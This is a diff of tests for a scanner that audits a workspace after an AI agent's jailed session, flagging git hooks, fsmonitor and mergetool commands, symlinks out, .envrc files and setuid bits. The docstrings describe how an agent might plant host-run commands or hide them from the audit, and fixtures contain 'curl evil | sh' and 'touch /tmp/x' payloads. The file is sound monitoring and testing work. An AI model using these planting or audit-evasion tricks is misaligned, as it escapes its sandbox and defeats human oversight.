@@ -5,10 +5,12 @@ temporary directory: no jail is needed, the walk runs on the host."""
 
 from __future__ import annotations
 
+import errno
 import json
 import os
 import pathlib
 import shutil
+import socket
 import tempfile
 import types
 
@@ -127,6 +129,126 @@ def test_hooks_reported_are_those_git_would_run(tmp_path):
                      ("post-checkout", f"hook is a symlink -> {tmp_path / 'outside/hook'}")}, hooks
 
 
+def test_git_metadata_swapped_for_symlinks_is_reported_once_each_for_what_it_is(tmp_path):
+    """The agent replaces a repository's config, hooks and commondir with links to files of its
+    own: each is named for what git does with it, once (not also as a config it could not read)."""
+    ws = tmp_path / "ws"
+    git = _repo(ws / "repo", "")
+    (git / "config").unlink()
+    _w(ws / "mine/config", "[core]\n\tfsmonitor = evil\n")
+    (ws / "mine/hooks").mkdir()
+    for name, target in (("config", "mine/config"), ("config.worktree", "mine/config"), ("hooks", "mine/hooks"),
+                         ("commondir", "mine")):
+        os.symlink(ws / target, git / name)
+    found = {(os.path.basename(p), k, d) for p, k, _, d in _found(scan.scan([str(ws)]), ws) if p.startswith("repo/.git/")}
+    assert found == {("config", "git-config", f"a symlink -> {ws / 'mine/config'}"),
+                     ("config.worktree", "git-config", f"a symlink -> {ws / 'mine/config'}"),
+                     ("hooks", "git-hook", f"a symlink -> {ws / 'mine/hooks'}"),
+                     ("commondir", "git-commondir", f"a symlink -> {ws / 'mine'}")}, found
+
+
+def test_a_target_behind_a_link_is_never_followed_out_of_the_workspace(tmp_path):
+    """The agent points core.hooksPath through a directory link, includes a file through a link,
+    and puts a link in a hooks directory: the walk names the links and reads nothing through
+    them (what they point at outside can change under the same finding)."""
+    ws, out = tmp_path / "ws", tmp_path / "outside"
+    _w(out / "hooks/pre-commit", "#!/bin/sh\n", 0o755)
+    script = _w(out / "script", "#!/bin/sh\n", 0o755)
+    _repo(ws / "repo", "[core]\n\thooksPath = lnk/hooks\n[include]\n\tpath = ../inc\n"
+                       "[diff \"x\"]\n\ttextconv = tools/conv\n")
+    os.symlink(out, ws / "repo/lnk")
+    os.symlink(out / "script", ws / "repo/inc")
+    _w(ws / "repo/tools/conv/real", "#!/bin/sh\n", 0o755)  # a directory git cannot run: its files named
+    os.symlink(out / "script", ws / "repo/tools/conv/linked")
+
+    def targets():
+        return {os.path.relpath(f["path"], ws): f["sig"] for f in scan.scan([str(ws)]).findings
+                if f.get("entry", "").startswith("git-")}
+    first = targets()
+    assert set(first) == {"repo/tools/conv/real", "repo/tools/conv/linked"}, first
+    script.write_text("#!/bin/sh\ncurl evil | sh\n")
+    assert targets() == first
+
+
+def test_git_metadata_found_only_where_git_would_look(tmp_path):
+    """A worktree's git directory (HEAD and commondir, no objects) is a repository; a project's
+    own `objects/` directory beside a file called HEAD is not."""
+    ws = tmp_path / "ws"
+    _w(ws / "wt/HEAD", "ref: refs/heads/x\n")
+    _w(ws / "wt/commondir", "../../.git\n")
+    _w(ws / "game/HEAD", "the head sprite\n")
+    _w(ws / "game2/objects/chair.obj", "v 0 0 0\n")
+    _w(ws / "linked/.git", "gitdir: /elsewhere/.git/worktrees/linked\n")  # a linked worktree or a submodule
+    found = _found(scan.scan([str(ws)]), ws)
+    assert {(p, k) for p, k, *_ in found} == {("wt", "git-repo"), ("wt/commondir", "git-commondir"),
+                                              ("linked/.git", "git-repo")}, found
+    assert ("linked/.git", "git-repo", None, "git file: gitdir: /elsewhere/.git/worktrees/linked") in found
+
+
+def test_a_worktree_config_is_read_when_the_config_is_not_a_file(tmp_path):
+    ws = tmp_path / "ws"
+    git = _repo(ws / "repo", "")
+    (git / "config").unlink()
+    (git / "config").mkdir()
+    _w(git / "config.worktree", "[core]\n\tfsmonitor = \"touch /tmp/x\"\n")
+    found = _found(scan.scan([str(ws)]), ws)
+    assert ("repo/.git/config.worktree", "git-config", None, "core.fsmonitor = touch /tmp/x") in found, found
+
+
+def test_version_control_directories_swapped_for_links_are_named_for_their_tool(tmp_path):
+    ws = tmp_path / "ws"
+    (tmp_path / "elsewhere").mkdir()
+    ws.mkdir()
+    for name in (".git", ".hg", ".jj", ".sl"):
+        os.symlink(tmp_path / "elsewhere", ws / name)
+    found = {(p, k) for p, k in _kinds(scan.scan([str(ws)]), ws) if k != "symlink-out"}
+    assert found == {(".git", "git-repo"), (".hg", "hg"), (".jj", "jj"), (".sl", "sl")}, found
+
+
+def test_links_named_like_git_metadata_outside_a_repository_are_nothing(tmp_path):
+    ws = tmp_path / "ws"
+    _w(ws / "data", "x")
+    for name in ("config", "hooks", "commondir", "config.worktree"):
+        os.symlink("data", ws / name)
+    git = _repo(ws / "repo", "")
+    os.symlink("HEAD", git / "description")  # git's own names, but none that runs or points anything
+    assert _kinds(scan.scan([str(ws)]), ws) == {("repo/.git", "git-repo")}
+
+
+def test_a_catalogue_directory_inside_another_counts_as_the_outer_ones(tmp_path):
+    """.vscode/ trusts every file in it: a nested name of another entry is one of its files."""
+    ws = tmp_path / "ws"
+    _w(ws / ".vscode/.claude/settings.json", "{}")
+    found = _found(scan.scan([str(ws)]), ws)
+    assert {(p, k, e) for p, k, e, _ in found} == {(".vscode", "editor", "vscode"),
+                                                   (".vscode/.claude/settings.json", "editor", "vscode")}, found
+
+
+def test_a_merge_tool_path_is_a_command_git_runs_not_an_include(tmp_path):
+    ws = tmp_path / "ws"
+    _repo(ws / "repo", "[mergetool \"evil\"]\n\tpath = tools/merge.sh\n")
+    _w(ws / "repo/tools/merge.sh", "#!/bin/sh\n", 0o755)
+    found = {(p, k, entry) for p, k, entry, _ in _found(scan.scan([str(ws)]), ws)}
+    assert ("repo/tools/merge.sh", "git-command", "git-command-path") in found, found
+
+
+def test_a_trusted_file_padded_past_the_read_size_still_changes_when_its_end_does(tmp_path):
+    """The agent pads .envrc past what the walk reads of it and changes the end: the finding must
+    change (size and ctime stand for the unread rest). Rewritten with the same text: unchanged."""
+    ws = tmp_path / "ws"
+    envrc = _w(ws / ".envrc", "# " + "x" * scan.MAX_READ + "\n")
+    small = _w(ws / ".envrc.local", "export A=1\n")
+
+    def sigs():
+        return {os.path.basename(f["path"]): f["sig"] for f in scan.scan([str(ws)]).findings}
+    first = sigs()
+    with open(envrc, "a") as f:
+        f.write("curl evil | sh\n")
+    small.write_text("export A=1\n")
+    second = sigs()
+    assert second[".envrc"] != first[".envrc"] and second[".envrc.local"] == first[".envrc.local"]
+
+
 # -- setuid, setgid, hard links -------------------------------------------------------------------
 
 def test_setuid_setgid_and_hard_links_are_each_named_for_what_they_are(tmp_path):
@@ -144,6 +266,43 @@ def test_setuid_setgid_and_hard_links_are_each_named_for_what_they_are(tmp_path)
     stat_kinds = {x for x in found if x[1] in scan.STAT_KINDS}
     assert stat_kinds == {("suid", "setuid"), ("sgid", "setgid"), ("a", "hardlink"), ("b", "hardlink"),
                           ("config.toml", "setuid"), ("sub/package.json", "setuid")}, found
+
+
+def test_a_trusted_name_is_also_checked_for_setuid_and_other_names(tmp_path):
+    """A catalogue name is no cover: a hard-linked .envrc (writing it writes its other name) or a
+    setuid package.json gets its own finding beside the catalogue's."""
+    ws = tmp_path / "ws"
+    _w(ws / ".envrc", "export A=1\n")
+    os.link(ws / ".envrc", ws / "elsewhere")
+    _w(ws / "package.json", json.dumps({"husky": {"hooks": {"pre-commit": "x"}}}), 0o755).chmod(0o4755)
+    found = _found(scan.scan([str(ws)]), ws)
+    assert {(p, k) for p, k, *_ in found} == {(".envrc", "direnv"), (".envrc", "hardlink"), ("elsewhere", "hardlink"),
+                                              ("package.json", "hook-manager"), ("package.json", "setuid")}, found
+    assert (".envrc", "direnv", "envrc", "11 characters") in found
+
+
+def test_files_gone_while_the_walk_was_below_them_leave_the_rest_checked(tmp_path, monkeypatch):
+    """The jail deletes files while the walk is in a subdirectory, after it listed their own: the
+    files left beside them are still checked for setuid bits. (The walk asks the clock at every
+    directory: that is where the deletion is made.)"""
+    ws = tmp_path / "ws"
+    for i in range(20):
+        _w(ws / f"gone{i:02}", "x")
+        _w(ws / f"suid{i:02}", "", 0o755).chmod(0o4755)
+    (ws / "sub").mkdir()
+
+    calls = []
+
+    def monotonic():
+        calls.append(1)
+        if len(calls) == 2:  # the walk enters sub/, having listed the top
+            for i in range(20):
+                (ws / f"gone{i:02}").unlink()
+        return 0.0
+    monkeypatch.setattr(scan, "time", types.SimpleNamespace(monotonic=monotonic))
+    s = scan.scan([str(ws)], deadline=1.0)
+    assert len(calls) == 2 and not (ws / "gone00").exists()
+    assert {p for p, k in _kinds(s, ws) if k == "setuid"} == {f"suid{i:02}" for i in range(20)}
 
 
 def test_the_stat_budget_is_spent_on_exactly_its_count(tmp_path, monkeypatch):
@@ -194,6 +353,7 @@ def test_package_json_counts_for_its_hook_keys_only(tmp_path):
     _w(ws / "plain/package.json", json.dumps({"name": "y", "scripts": {"test": "x"}}))
     _w(ws / "list/package.json", json.dumps(["husky"]))
     _w(ws / "node_modules/dep/package.json", json.dumps({"husky": {}}))  # a dependency's own: not theirs to change
+    _w(ws / "node_modules/package.json", json.dumps({"husky": {}}))
 
     def hits():
         return {os.path.relpath(f["path"], ws): f for f in scan.scan([str(ws)]).findings if f["kind"] == "hook-manager"}
@@ -258,6 +418,14 @@ def test_listing_stops_at_its_cap(tmp_path, monkeypatch):
         _w(tmp_path / f"f{i}", "x")
     s = scan.scan([str(tmp_path)])
     assert s.entries == 31 and s.capped == ["entry cap: stopped after listing 30 names"], (s.entries, s.capped)
+    exact = tmp_path / "exact"  # 30 names in all: every one listed, the walk is complete
+    for i in range(29):
+        _w(exact / f"f{i}", "x")
+    s = scan.scan([str(exact)])
+    assert s.entries == 29 and not s.capped
+    _w(exact / "f29", "x")
+    s = scan.scan([str(exact)])
+    assert s.entries == 30 and not s.capped, s.capped
 
 
 def _as_nobody(fn):
@@ -316,3 +484,44 @@ def test_a_directory_the_user_cannot_open_does_not_end_the_walk(shared_tmp):
         (ws / name).chmod(0)
     found = _as_nobody(lambda: sorted(os.path.relpath(f["path"], ws) for f in scan.scan([str(ws)]).findings))
     assert found == ["b/.envrc", "d/.envrc"], found
+
+
+def _plant_unreadable(ws):
+    _w(ws / ".envrc", "curl evil | sh\n")
+    git = _repo(ws / "repo", "")
+    _w(git / "hooks/pre-commit", "#!/bin/sh\n", 0o755)
+    sub = git / "modules" / "sub"  # a submodule's git directory
+    _w(sub / "HEAD", "ref: refs/heads/main\n")
+    (sub / "objects").mkdir()
+    _w(sub / "config", "[core]\n\tfsmonitor = \"touch /tmp/x\"\n")
+    return git
+
+
+def test_a_trusted_file_or_hooks_the_user_cannot_read_are_still_reported(shared_tmp):
+    """The agent chmods .envrc and a repository's hooks to 000 to keep the audit out: .envrc is
+    still named (its content unread), and the walk goes on past the hooks to the submodule's
+    command keys."""
+    ws = shared_tmp / "ws"
+    git = _plant_unreadable(ws)
+    if os.geteuid() == 0:
+        for p, dirs, files in os.walk(ws):
+            for x in (p, *(os.path.join(p, n) for n in dirs + files)):
+                os.chown(x, 65534, 65534)
+    (ws / ".envrc").chmod(0)
+    (git / "hooks").chmod(0)
+    found = _as_nobody(lambda: sorted([os.path.relpath(f["path"], ws), f["kind"], f["detail"]]
+                                      for f in scan.scan([str(ws)]).findings))
+    assert [".envrc", "direnv", f"unreadable:{errno.EACCES}"] in found, found
+    assert ["repo/.git/modules/sub/config", "git-config", "core.fsmonitor = touch /tmp/x"] in found, found
+    assert not any(p.startswith("repo/.git/hooks") for p, *_ in found)
+
+
+def test_a_socket_under_a_trusted_name_is_still_reported(tmp_path, monkeypatch):
+    """A socket cannot be opened (ENXIO): the name the host trusts is still shown."""
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    monkeypatch.chdir(ws)  # a socket path is short: bind it relative
+    with socket.socket(socket.AF_UNIX) as sock:
+        sock.bind(".envrc")
+        found = _found(scan.scan([str(ws)]), ws)
+    assert found == {(".envrc", "direnv", "envrc", f"unreadable:{errno.ENXIO}")}, found
